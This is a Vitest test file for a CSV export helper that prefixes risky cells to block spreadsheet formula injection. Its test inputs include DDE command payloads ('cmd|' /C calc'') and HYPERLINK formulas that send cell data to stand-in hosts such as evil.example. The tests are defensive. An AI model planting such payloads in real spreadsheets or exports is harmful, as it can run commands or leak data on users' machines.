import { describe, expect, it } from "vitest";
import { csvSafeCell, figuresToCsv } from "@/lib/figures/figures-csv";
import type { PublicFigure } from "@/lib/releases/public-dto";

const figure = (over: Partial<PublicFigure> = {}): PublicFigure =>
  ({
    key: "guests",
    label: "参会嘉宾",
    value: "1.6",
    unit: "万名",
    baseValue: "16000",
    baseUnit: "名",
    qualifier: "exact",
    qualifierWord: null,
    partOfKey: null,
    section: null,
    highlighted: true,
    isRecord: false,
    recordNote: null,
    sourceText: null,
    mention: null,
    display: "1.6万名",
    baseDisplay: "16,000 名",
    ...over,
  }) as PublicFigure;

describe("figures.csv: no cell runs as a formula", () => {
  it.each([
    ['=HYPERLINK("https://evil.example","点击")', '\'=HYPERLINK("https://evil.example","点击")'],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["-1e3", "'-1e3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["＝1+1", "'＝1+1"],
    ["－5", "'－5"],
    [" =1+1", "' =1+1"],
    ['x;=HYPERLINK("http://evil/?"&B2,"点击")', '\'x；=HYPERLINK("http://evil/?"&B2,"点击")'],
    ["a\t@SUM(1)", "'a\t@SUM(1)"],
  ])("prefixes %j", (cell, expected) => {
    expect(csvSafeCell(cell)).toBe(expected);
  });

  it.each(["-12.5", "-3", "16000", "0.001", "参会嘉宾", "约1.6万名", "a=b", "a;b", ""])(
    "leaves %j as it is",
    (cell) => {
      expect(csvSafeCell(cell)).toBe(cell);
    },
  );

  it("escapes editor-written cells and keeps numbers numbers in the file", () => {
    const csv = figuresToCsv([
      figure({
        label: "=cmd|' /C calc'!A0",
        recordNote: "@SUM(1,2)",
        sourceText: "+招商",
        section: "-经济",
        value: "-12.5",
        baseValue: "-125000",
        display: "-12.5万名",
      }),
    ]);
    const [header, row] = csv.replace(/^\uFEFF/, "").split("\r\n");
    expect(header.split(",")[1]).toBe("label");
    const cells = row.split(",");
    expect(cells[1]).toBe("'=cmd|' /C calc'!A0");
    expect(cells[2]).toBe("'-12.5万名");
    expect(cells[3]).toBe("-12.5");
    expect(cells[5]).toBe("-125000");
    expect(cells[8]).toBe("'-经济");
    expect(row).toContain('"\'@SUM(1,2)"');
    expect(cells.at(-1)).toBe("'+招商");
  });
});
